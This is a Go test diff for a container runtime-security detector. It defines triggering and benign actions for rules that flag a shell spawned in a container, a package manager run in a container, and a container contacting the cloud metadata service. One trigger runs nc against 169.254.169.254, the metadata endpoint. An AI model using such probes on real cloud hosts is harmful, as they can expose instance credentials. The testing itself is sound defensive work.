+	return []ruleTest{
+		{rule: "Shell Spawned in Container", priority: "Notice",
+			trigger: func(t *testing.T) []alert {
+				arg := "shell-" + randToken()
+				exec(t, "sh", "-c", "echo "+arg)
+				return []alert{{key: key, want: inContainer(fields{
+					"proc.cmdline": "sh -c echo " + arg, "proc.name": "sh", "user.name": "root", "user.uid": 0,
+				})}}
+			},
+			benign: func(t *testing.T) []alert {
+				// A program that is not a shell in the container, and a
+				// shell on the host.
+				arg := "benign-" + randToken()
+				exec(t, "echo", arg)
+				runOK(t, nil, "sh", "-c", "echo "+arg)
+				return []alert{
+					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "echo " + arg}},
+					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "sh -c echo " + arg}},
+				}
+			}},
+		{rule: "Package Manager Run in Container", priority: "Error",
+			trigger: func(t *testing.T) []alert {
+				arg := "pkg-" + randToken()
+				exec(t, "dpkg", "-l", arg)
+				return []alert{{key: key, want: inContainer(fields{"proc.cmdline": "dpkg -l " + arg})}}
+			},
+			benign: func(t *testing.T) []alert {
+				// The host's package manager.
+				runOK(t, nil, "dpkg", "--version")
+				return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "dpkg --version"}}}
+			}},
+		{rule: "Container Contacts Cloud Metadata Service", priority: "Warning",
+			trigger: func(t *testing.T) []alert {
+				// The container has no route out: the connect fails at once
+				// (ENETUNREACH), and the attempt is what the rule reports.
+				// (busybox's wget crashes in this build: nc does the connect.)
+				exec(t, "nc", "-w", "2", "169.254.169.254", "80")
+				return []alert{{key: key, want: inContainer(fields{
+					"proc.cmdline": "nc -w 2 169.254.169.254 80", "proc.name": "nc",
+					"fd.name": contains("->169.254.169.254:80"),
+				})}}
+			},
+			benign: func(t *testing.T) []alert {
+				exec(t, "nc", "-w", "2", "127.0.0.1", "1")
+				return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "nc -w 2 127.0.0.1 1"}}}
+			}},
+	}
+}
+
+// TestDefaultRulesAllTested checks that the end-to-end tables cover every
+// default rule.
+func TestDefaultRulesAllTested(t *testing.T) {
+	rs, _, err := rules.Load([]rules.Source{rules.Default()}, rules.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	tested := map[string]bool{}
+	for _, tt := range append(hostRuleTests(&hostEnv{}), containerRuleTests(&containerdtest.Container{ID: "000000000000"})...) {
+		if rs.Rule(tt.rule) == nil {
+			t.Errorf("tested rule %q is not a default rule", tt.rule)
+		}
+		tested[tt.rule] = true
+	}
+	for _, r := range rs.Rules() {
+		if !tested[r.Name] {
+			t.Errorf("default rule %q has no end-to-end test", r.Name)
+		}
+	}
+}
